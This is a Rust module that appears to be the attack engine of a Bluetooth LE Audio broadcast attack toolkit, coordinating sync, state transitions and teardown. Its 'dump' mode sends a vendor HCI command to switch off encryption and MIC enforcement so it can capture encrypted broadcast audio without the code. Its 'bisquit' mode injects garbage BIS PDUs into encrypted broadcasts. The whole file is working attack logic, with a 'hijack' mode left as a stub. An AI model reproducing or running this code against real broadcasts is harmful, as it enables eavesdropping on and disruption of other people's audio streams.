//! Attack engine.
//!
//! Drives one attack attempt through [`AttackState`] and owns the single
//! [`ActiveSession`]. Ownership of the session moves into the engine when
//! an attempt reaches `ACTIVE` and moves out again on stop, reset or
//! external termination.
//!
//! ```text
//!  dump/bisquit(index)
//!    │ resolve + preconditions          (no side effects on failure)
//!    ▼
//!  SYNC_PENDING  create PA sync, wait for it
//!    ▼
//!  BIG_SYNCING   vendor command (0x0666 / 0x0667), BIG sync
//!    ▼
//!  ACTIVE        raw capture (dump), session armed
//! ```

pub mod params;
pub mod session;
pub mod state;

use heapless::Vec;
use log::{error, info, warn};

use crate::app::ports::{
    BigHandle, BigSyncParams, Controller, OPCODE_DISABLE_ENCRYPTION, OPCODE_GARBAGE_BIS_PDU,
    StackError, SyncHandle,
};
use crate::broadcast::{Address, BigInfo, BroadcastId};
use crate::config::ToolkitConfig;
use crate::error::{Error, ProtocolError, ProtocolOp, Result};
use crate::shared::SharedState;
use crate::sync::SyncOrchestrator;

use params::{BroadcastCode, big_sync_params, broadcast_code_from};
pub use session::ActiveSession;
pub use state::{AttackMode, AttackState};

/// Teardown steps that failed during a stop. Cleanup continues past each.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TeardownReport {
    pub failures: Vec<ProtocolError, 3>,
}

impl TeardownReport {
    pub fn is_clean(&self) -> bool {
        self.failures.is_empty()
    }

    fn record(&mut self, op: ProtocolOp, result: core::result::Result<(), StackError>) {
        if let Err(e) = result {
            let e = e.during(op);
            error!("ATTACK | teardown: {e}");
            // At most one entry per step.
            let _ = self.failures.push(e);
        }
    }
}

/// Result of [`AttackEngine::stop`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum StopOutcome {
    NothingToStop,
    Stopped {
        session: ActiveSession,
        report: TeardownReport,
    },
}

/// Target resolved from the registry before any side effect.
struct Target {
    id: BroadcastId,
    address: Address,
    info: BigInfo,
}

pub struct AttackEngine {
    state: AttackState,
    session: Option<ActiveSession>,
    big_sync_timeout: u16,
    max_bis: u8,
}

impl AttackEngine {
    pub fn new(config: &ToolkitConfig) -> Self {
        Self {
            state: AttackState::Idle,
            session: None,
            big_sync_timeout: config.big_sync_timeout,
            max_bis: config.max_bis,
        }
    }

    pub fn state(&self) -> AttackState {
        self.state
    }

    pub fn session(&self) -> Option<&ActiveSession> {
        self.session.as_ref()
    }

    /// Passively capture the BIG of the broadcast at `index`.
    ///
    /// An encrypted stream without `code` gets encryption and MIC
    /// enforcement switched off in the controller first.
    pub fn dump(
        &mut self,
        shared: &SharedState,
        sync: &SyncOrchestrator,
        ctrl: &mut impl Controller,
        index: usize,
        code: Option<&[u8]>,
    ) -> Result<ActiveSession> {
        let target = self.resolve(shared, index)?;
        let code = code.map(broadcast_code_from);
        let params = big_sync_params(&target.info, code, self.big_sync_timeout, self.max_bis)?;
        let vendor = (target.info.encryption && code.is_none()).then_some(OPCODE_DISABLE_ENCRYPTION);

        self.establish(shared, sync, ctrl, AttackMode::Dump, index, target, vendor, &params)
    }

    /// Inject garbage BIS PDUs into the BIG of the broadcast at `index`.
    /// Only encrypted streams are supported.
    pub fn bisquit(
        &mut self,
        shared: &SharedState,
        sync: &SyncOrchestrator,
        ctrl: &mut impl Controller,
        index: usize,
    ) -> Result<ActiveSession> {
        let target = self.resolve(shared, index)?;
        if !target.info.encryption {
            error!("ATTACK | bisquit on unencrypted broadcast {index}");
            return Err(Error::Unimplemented(
                "unencrypted garbage-injection path not implemented",
            ));
        }
        // An all-zero code is accepted because MIC checks are bypassed.
        let empty: BroadcastCode = [0; 16];
        let params = big_sync_params(&target.info, Some(empty), self.big_sync_timeout, self.max_bis)?;

        self.establish(
            shared,
            sync,
            ctrl,
            AttackMode::Bisquit,
            index,
            target,
            Some(OPCODE_GARBAGE_BIS_PDU),
            &params,
        )
    }

    /// Reserved mode. Succeeds without touching anything.
    pub fn hijack(&self) -> Result<()> {
        info!("ATTACK | hijack is a no-op");
        Ok(())
    }

    /// Tear down the active session, best-effort.
    pub fn stop(&mut self, shared: &SharedState, ctrl: &mut impl Controller) -> StopOutcome {
        let Some(session) = self.session.take() else {
            info!("ATTACK | nothing to stop");
            return StopOutcome::NothingToStop;
        };

        let mut report = TeardownReport::default();
        report.record(ProtocolOp::BigTerminate, ctrl.big_terminate(session.big));
        report.record(ProtocolOp::PaSyncDelete, ctrl.delete_sync(session.sync));
        if session.mode == AttackMode::Dump {
            shared.capture.stop_dump();
            report.record(ProtocolOp::RawCapture, ctrl.unsubscribe_raw());
        }

        self.release(shared, &session);
        info!("ATTACK | stopped {} on {}", session.mode, session.id);
        StopOutcome::Stopped { session, report }
    }

    /// Drop the session if the stack reported its PA sync or BIG gone.
    ///
    /// The stack has already released both, so only the raw capture
    /// subscription of a dump is undone here.
    pub fn observe_external_termination(
        &mut self,
        shared: &SharedState,
        ctrl: &mut impl Controller,
    ) -> Option<ActiveSession> {
        if !shared.watch.take_lost() {
            return None;
        }
        let session = self.session.take()?;
        warn!("ATTACK | session on {} terminated by the stack", session.id);
        if session.mode == AttackMode::Dump {
            shared.capture.stop_dump();
            if let Err(e) = ctrl.unsubscribe_raw() {
                warn!("ATTACK | raw capture unsubscribe failed: {}", e.code());
            }
        }
        self.release(shared, &session);
        Some(session)
    }

    // -----------------------------------------------------------------------
    // Internal
    // -----------------------------------------------------------------------

    fn resolve(&self, shared: &SharedState, index: usize) -> Result<Target> {
        if self.session.is_some() {
            return Err(Error::Busy);
        }
        shared.with_registry(|reg| {
            let b = reg.by_index(index)?;
            if !b.has_big_info {
                return Err(Error::NotReady);
            }
            Ok(Target {
                id: b.id,
                address: b.address,
                info: b.big_info,
            })
        })
    }

    #[allow(clippy::too_many_arguments)]
    fn establish(
        &mut self,
        shared: &SharedState,
        sync: &SyncOrchestrator,
        ctrl: &mut impl Controller,
        mode: AttackMode,
        index: usize,
        target: Target,
        vendor: Option<u16>,
        params: &BigSyncParams,
    ) -> Result<ActiveSession> {
        info!(
            "ATTACK | {mode} on {} ({}), {} BIS, encryption={}",
            target.id,
            target.address,
            params.channels.len(),
            target.info.encryption
        );

        self.transition(AttackState::SyncPending);
        let pending = match sync.await_sync(shared, ctrl, index) {
            Ok(p) => p,
            Err(e) => {
                self.transition(AttackState::Idle);
                return Err(e);
            }
        };

        self.transition(AttackState::BigSyncing);
        let big = match self.big_sync(ctrl, pending.handle, vendor, params) {
            Ok(big) => big,
            Err(e) => {
                self.abandon_sync(shared, ctrl, index, pending.handle);
                return Err(e);
            }
        };

        if mode == AttackMode::Dump {
            if let Err(e) = ctrl.subscribe_raw() {
                let e = e.during(ProtocolOp::RawCapture);
                error!("ATTACK | {e}");
                if let Err(t) = ctrl.big_terminate(big) {
                    warn!("ATTACK | BIG terminate failed: {}", t.code());
                }
                self.abandon_sync(shared, ctrl, index, pending.handle);
                return Err(e.into());
            }
            shared.capture.start_dump();
        }

        let session = ActiveSession {
            mode,
            index,
            id: target.id,
            address: target.address,
            sync: pending.handle,
            big,
        };
        shared.watch.arm(session.sync, session.big);
        self.session = Some(session);
        self.transition(AttackState::Active);
        Ok(session)
    }

    fn big_sync(
        &self,
        ctrl: &mut impl Controller,
        handle: SyncHandle,
        vendor: Option<u16>,
        params: &BigSyncParams,
    ) -> Result<BigHandle> {
        if let Some(opcode) = vendor {
            info!("ATTACK | sending HCI 0x{opcode:04X}");
            ctrl.send_command(opcode).map_err(|e| {
                let e = e.during(ProtocolOp::VendorCommand(opcode));
                error!("ATTACK | {e}");
                Error::Protocol(e)
            })?;
        }
        ctrl.big_sync(handle, params).map_err(|e| {
            let e = e.during(ProtocolOp::BigSync);
            error!("ATTACK | {e}");
            Error::Protocol(e)
        })
    }

    /// Undo the sync created for a failed attempt and fall back to IDLE.
    fn abandon_sync(
        &mut self,
        shared: &SharedState,
        ctrl: &mut impl Controller,
        index: usize,
        handle: SyncHandle,
    ) {
        if let Err(e) = ctrl.delete_sync(handle) {
            warn!("ATTACK | PA sync delete failed: {}", e.code());
        }
        shared.with_registry(|reg| {
            if let Ok(b) = reg.by_index_mut(index) {
                b.sync = None;
            }
        });
        self.transition(AttackState::Idle);
    }

    fn release(&mut self, shared: &SharedState, session: &ActiveSession) {
        shared.watch.disarm();
        shared.with_registry(|reg| {
            if let Ok(b) = reg.by_index_mut(session.index) {
                if b.address == session.address {
                    b.sync = None;
                }
            }
        });
        self.transition(AttackState::Idle);
    }

    fn transition(&mut self, next: AttackState) {
        if self.state == next {
            return;
        }
        debug_assert!(
            self.state.can_transition_to(next),
            "illegal transition {} -> {}",
            self.state,
            next
        );
        info!("ATTACK transition: {} -> {}", self.state, next);
        self.state = next;
    }
}
